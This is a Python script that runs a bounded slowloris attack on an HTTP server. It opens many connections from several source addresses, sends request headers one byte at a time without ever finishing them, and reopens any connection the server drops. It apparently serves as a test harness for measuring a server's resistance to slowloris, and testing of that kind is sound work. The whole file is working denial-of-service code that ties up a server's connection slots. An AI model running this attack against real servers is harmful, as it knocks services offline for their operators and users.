#!/usr/bin/env python3
"""The slowloris flood on an HTTP server, bounded: from each SOURCE address, keeps COUNT
connections open to HOST PORT, each sending its request head one byte every INTERVAL seconds
and never ending it; a connection the server closes is opened again at once. Stops after
SECONDS.

Prints at the end one line "opened N closed-by-server M most-open K": connections opened,
connections the server closed (at accept or later), the most that were open at once.
"""
import select
import socket
import sys
import time

HEAD = b"GET /hello.txt HTTP/1.1\r\nHost: www.v4only.test\r\n"
MORE = b"X-Slow: 1\r\n"


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    count, interval, seconds = int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
    sources = sys.argv[6:]
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    end = time.monotonic() + seconds
    conns = {}  # fd -> [socket, bytes sent]
    by_source = {s: 0 for s in sources}
    source_of = {}
    poller = select.poll()
    opened = closed = most = 0
    while time.monotonic() < end:
        for src in sources:
            while by_source[src] < count and time.monotonic() < end:
                s = socket.socket(family, socket.SOCK_STREAM)
                s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                s.settimeout(2)
                s.bind((src, 0))
                try:
                    s.connect((host, port))
                except OSError:
                    s.close()
                    closed += 1
                    break
                opened += 1
                conns[s.fileno()] = [s, 0]
                source_of[s.fileno()] = src
                by_source[src] += 1
                poller.register(s, select.POLLIN)
        most = max(most, len(conns))
        # Readable means closed: the head never ends, so no answer can come but a 408 or a close.
        for fd, _ in poller.poll(0):
            s = conns.pop(fd)[0]
            poller.unregister(fd)
            by_source[source_of.pop(fd)] -= 1
            s.close()
            closed += 1
        for c in list(conns.values()):
            text = HEAD + MORE * 1000
            try:
                c[0].send(text[c[1]:c[1] + 1])
                c[1] += 1
            except OSError:
                pass  # seen as closed by the next poll
        time.sleep(interval)
    print("opened", opened, "closed-by-server", closed, "most-open", most, flush=True)


main()
